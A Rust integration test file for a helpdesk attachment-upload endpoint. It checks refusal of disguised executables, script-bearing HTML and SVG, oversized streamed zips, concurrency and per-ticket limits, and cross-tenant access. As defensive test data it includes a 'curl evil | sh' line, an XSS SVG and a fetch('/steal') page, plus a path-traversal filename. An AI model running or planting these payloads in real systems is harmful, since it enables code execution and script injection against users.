//! Bad uploads: each gets its clear error and leaves nothing behind, neither a row, nor an object,
//! nor bytes counted against the quota.

use std::io::Read as _;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use app_api::attachments::MAX_PER_TICKET;
use futures_util::StreamExt as _;
use serde_json::json;

use super::{BOUNDARY, Bucket, PNG, Part, desk_on_s3, form, post_form, ticket_of, upload, uploaded};
use crate::tickets::{Desk, id};

/// Nothing was stored in `desk`'s tenant (rows, objects, usage).
async fn nothing_stored(desk: &Desk, bucket: &Bucket) {
    assert_eq!(desk.db.count("ticket_attachments").await, 0);
    assert_eq!(desk.db.scalar("SELECT bytes_used FROM storage_usage").await, 0);
    assert!(bucket.keys().await.is_empty(), "{:?}", bucket.keys().await);
}

#[tokio::test]
async fn programs_pages_and_impostors_are_refused_and_nothing_is_stored() {
    let bucket = Bucket::new();
    let desk = desk_on_s3(&bucket, |_| {}).await;
    let customer = desk.member("customer").await;
    let ticket = ticket_of(&desk, &customer).await;
    let pe =
        b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0@\0\0\0This program cannot be run in DOS mode.";
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0\x01\0\0\0";
    let html = b"<!DOCTYPE html><html><body><script>fetch('/steal')</script></body></html>";
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><rect/></svg>";
    let cases: [(&str, &[u8], u16, &str); 9] = [
        ("invoice.pdf", pe, 415, "unsupported_media_type"),
        ("photo.png", elf, 415, "unsupported_media_type"),
        ("notes.txt", b"#!/bin/sh\ncurl evil | sh\n", 415, "unsupported_media_type"),
        ("setup.exe", pe, 415, "unsupported_media_type"),
        ("drawing.svg", svg, 415, "unsupported_media_type"),
        ("photo.png", html, 415, "media_type_mismatch"),
        ("photo.png", svg, 415, "media_type_mismatch"),
        ("scan.jpg", PNG, 415, "media_type_mismatch"),
        ("README", b"plain words", 415, "unsupported_media_type"),
    ];
    for (name, content, status, code) in cases {
        let refused = upload(&desk, &customer, ticket, name, content, &[]).await;
        let problem = refused.assert_problem(status, code);
        assert!(problem["detail"].as_str().is_some_and(|d| !d.is_empty()), "{name}: {problem}");
    }

    // Malformed forms.
    let json =
        desk.post(&customer, &format!("/v1/tickets/{ticket}/attachments"), &serde_json::json!({"file": "x"})).await;
    assert_eq!(json.status, 400, "{}", json.body);
    let no_file =
        post_form(&desk, &customer, ticket, form(&[Part { name: "message_id", file_name: None, content: b"1" }])).await;
    no_file.assert_problem(422, "validation_failed");
    let two = form(&[
        Part { name: "file", file_name: Some("a.png"), content: PNG },
        Part { name: "file", file_name: Some("b.png"), content: PNG },
    ]);
    post_form(&desk, &customer, ticket, two).await.assert_problem(400, "validation_failed");
    let unknown = upload(&desk, &customer, ticket, "a.png", PNG, &[("owner", "someone-else")]).await;
    unknown.assert_problem(400, "validation_failed");
    let bad_id = upload(&desk, &customer, ticket, "a.png", PNG, &[("message_id", "abc")]).await;
    assert_eq!(bad_id.assert_problem(422, "validation_failed")["errors"][0]["field"], "message_id");
    let empty = upload(&desk, &customer, ticket, "a.txt", b"", &[]).await;
    empty.assert_problem(422, "validation_failed");
    let internal = upload(&desk, &customer, ticket, "a.png", PNG, &[("is_internal", "true")]).await;
    internal.assert_problem(403, "forbidden");
    let nameless = upload(&desk, &customer, ticket, "...", PNG, &[]).await;
    nameless.assert_problem(422, "validation_failed");

    // Someone else's ticket, one that does not exist, another tenant's, and no token.
    let neighbour = desk.member("customer").await;
    upload(&desk, &neighbour, ticket, "a.png", PNG, &[]).await.assert_problem(404, "not_found");
    upload(&desk, &customer, ticket + 1000, "a.png", PNG, &[]).await.assert_problem(404, "not_found");
    let other_org = desk.platform.org().await;
    let request = desk
        .app
        .server
        .request(reqwest::Method::POST, &format!("/v1/tickets/{ticket}/attachments"))
        .header("x-tenant-slug", &other_org.slug)
        .header("content-type", format!("multipart/form-data; boundary={BOUNDARY}"))
        .bearer_auth(&other_org.owner_token)
        .body(form(&[Part { name: "file", file_name: Some("a.png"), content: PNG }]));
    let cross = harness::TestResponse::from(request.send().await.unwrap()).await;
    cross.assert_problem(404, "not_found");
    let anonymous = desk
        .app
        .server
        .request(reqwest::Method::POST, &format!("/v1/tickets/{ticket}/attachments"))
        .header("x-tenant-slug", &desk.org.slug)
        .header("content-type", format!("multipart/form-data; boundary={BOUNDARY}"))
        .body(form(&[Part { name: "file", file_name: Some("a.png"), content: PNG }]));
    assert_eq!(anonymous.send().await.unwrap().status(), 401);

    nothing_stored(&desk, &bucket).await;

    // A name with path separators and control characters is kept for display only.
    let odd = uploaded(&desk, &customer, ticket, "../../etc/pass\twd.png", PNG).await;
    assert_eq!(odd["original_name"], "passwd.png");
    let keys = bucket.keys().await;
    assert_eq!(keys.len(), 1);
    assert!(keys[0].ends_with(&format!("/tickets/{ticket}/{}.png", odd["sha256"].as_str().unwrap())), "{keys:?}");
}

/// The peak resident memory of this test process, in bytes (`VmHWM`).
fn peak_memory() -> u64 {
    let mut status = String::new();
    std::fs::File::open("/proc/self/status").unwrap().read_to_string(&mut status).unwrap();
    let line = status.lines().find(|l| l.starts_with("VmHWM:")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse::<u64>().unwrap() * 1024
}

#[tokio::test]
async fn a_zip_over_its_limit_is_cut_while_it_streams_and_memory_does_not_follow_the_upload() {
    let bucket = Bucket::new();
    let spool = tempfile::tempdir().unwrap();
    let desk = desk_on_s3(&bucket, |c| c.attachments.spool_dir = Some(spool.path().to_owned())).await;
    let customer = desk.member("customer").await;
    let ticket = ticket_of(&desk, &customer).await;

    // 20 MiB and 256 KiB of zip, sent in 64 KiB chunks made as they are sent (the client holds
    // none of it either).
    let head = format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"logs.zip\"\r\nContent-Type: application/zip\r\n\r\n"
    );
    let tail = format!("\r\n--{BOUNDARY}--\r\n");
    let chunks = 20 * 16 + 4;
    let body = futures_util::stream::iter(0..chunks + 2).map(move |i| {
        let chunk: Vec<u8> = if i == 0 {
            head.clone().into_bytes()
        } else if i == chunks + 1 {
            tail.clone().into_bytes()
        } else if i == 1 {
            let mut first = b"PK\x03\x04\x14\0\0\0\x08\0".to_vec();
            first.resize(64 * 1024, 7);
            first
        } else {
            vec![u8::try_from(i % 251).unwrap(); 64 * 1024]
        };
        Ok::<_, std::io::Error>(chunk)
    });
    let before = peak_memory();
    let refused = post_form(&desk, &customer, ticket, reqwest::Body::wrap_stream(body)).await;
    let grown = peak_memory().saturating_sub(before);
    let problem = refused.assert_problem(413, "file_too_large");
    assert_eq!(problem["limit"], 20 * 1024 * 1024);
    assert!(grown < 8 * 1024 * 1024, "the process's peak memory grew by {grown} bytes for a 20 MiB upload");
    nothing_stored(&desk, &bucket).await;
    let left: Vec<_> = std::fs::read_dir(spool.path()).unwrap().flatten().map(|e| e.file_name()).collect();
    assert!(left.is_empty(), "spool files were left behind: {left:?}");

    // A declared length over the largest file is refused before a byte of the body is read.
    let address = desk.app.server.url("").trim_start_matches("http://").trim_end_matches('/').to_owned();
    // The server runs on this test's runtime: the client must not block it.
    let mut stream = tokio::net::TcpStream::connect(&address).await.unwrap();
    let head = format!(
        "POST /v1/tickets/{ticket}/attachments HTTP/1.1\r\nHost: x\r\nX-Tenant-Slug: {}\r\nAuthorization: Bearer {}\r\n\
         Content-Type: multipart/form-data; boundary={BOUNDARY}\r\nContent-Length: 50000000\r\n\r\n",
        desk.org.slug, customer.token
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    let mut answer = [0u8; 4096];
    let read =
        tokio::time::timeout(std::time::Duration::from_secs(10), stream.read(&mut answer)).await.unwrap().unwrap();
    let answer = String::from_utf8_lossy(&answer[..read]);
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert!(answer.contains("file_too_large"), "{answer}");
}

#[tokio::test]
async fn uploads_past_the_concurrency_limit_are_answered_busy() {
    let bucket = Bucket::new();
    let desk = desk_on_s3(&bucket, |c| c.attachments.concurrency = 1).await;
    let customer = desk.member("customer").await;
    let ticket = ticket_of(&desk, &customer).await;

    // An upload whose body stops after its first part holds the one place...
    let (release, released) = tokio::sync::oneshot::channel::<()>();
    let head = format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"slow.png\"\r\n\r\n");
    let first_part = [head.into_bytes(), PNG.to_vec()].concat();
    let tail = format!("\r\n--{BOUNDARY}--\r\n").into_bytes();
    let body = futures_util::stream::once(async move { Ok::<_, std::io::Error>(first_part) }).chain(
        futures_util::stream::once(async move {
            let _ = released.await;
            Ok::<_, std::io::Error>(tail)
        }),
    );
    let slow = tokio::spawn({
        let desk_url = desk.app.server.url(&format!("/v1/tickets/{ticket}/attachments"));
        let (slug, token) = (desk.org.slug.clone(), customer.token.clone());
        async move {
            reqwest::Client::new()
                .post(desk_url)
                .header("x-tenant-slug", slug)
                .header("content-type", format!("multipart/form-data; boundary={BOUNDARY}"))
                .bearer_auth(token)
                .body(reqwest::Body::wrap_stream(body))
                .send()
                .await
                .unwrap()
                .status()
        }
    });
    // ... so another is refused at once. (The probe is a file refused anyway: one that got in
    // before the slow upload took the place stores nothing either.)
    let busy = harness::eventually(std::time::Duration::from_secs(10), "the slow upload holds the place", || async {
        let answer = upload(&desk, &customer, ticket, "quick.png", PNG, &[]).await;
        (answer.status == 503).then_some(answer)
    })
    .await;
    let problem = busy.assert_problem(503, "server_busy");
    assert!(problem["detail"].as_str().is_some_and(|d| d.contains("too many uploads")));
    assert_eq!(busy.header("retry-after"), Some("1"));
    assert_eq!(desk.db.count("ticket_attachments").await, 0);

    // Once it ends, the place is free again.
    release.send(()).unwrap();
    assert_eq!(slow.await.unwrap(), 201);
    uploaded(&desk, &customer, ticket, "quick.png", PNG).await;
}

/// The per-ticket file limit holds exactly when uploads to one ticket come at once.
#[tokio::test]
async fn concurrent_uploads_never_pass_the_per_ticket_limit() {
    let desk = Desk::open().await;
    let customer = desk.member("customer").await;
    let ticket = id(&desk.create(&customer, json!({ "subject": "Many files", "description": "A lot" })).await);
    uploaded(&desk, &customer, ticket, "first.txt", b"the first file").await;
    // Up to two below the limit, as copies of the first row.
    desk.db
        .execute(&format!(
            "INSERT INTO ticket_attachments (ticket_id, original_name, filename, file_path, mime_type, file_size,
                 sha256, is_internal, uploaded_by)
             SELECT ticket_id, original_name, filename, file_path, mime_type, file_size, sha256, is_internal,
                 uploaded_by
             FROM ticket_attachments, generate_series(1, {}) WHERE ticket_id = {ticket}",
            MAX_PER_TICKET - 3
        ))
        .await;
    let files: Vec<(String, Vec<u8>)> =
        (0..6).map(|i| (format!("n{i}.txt"), format!("file number {i}").into_bytes())).collect();
    let answers = futures_util::future::join_all(
        files.iter().map(|(name, content)| upload(&desk, &customer, ticket, name, content, &[])),
    )
    .await;
    let created = answers.iter().filter(|a| a.status == 201).count();
    assert_eq!(created, 2, "{:?}", answers.iter().map(|a| a.status).collect::<Vec<_>>());
    for refused in answers.iter().filter(|a| a.status != 201) {
        let problem = refused.assert_problem(422, "validation_failed");
        assert_eq!(problem["errors"][0]["field"], "file", "{problem}");
    }
    let count = desk.db.scalar(&format!("SELECT count(*) FROM ticket_attachments WHERE ticket_id = {ticket}")).await;
    assert_eq!(count, MAX_PER_TICKET);
}
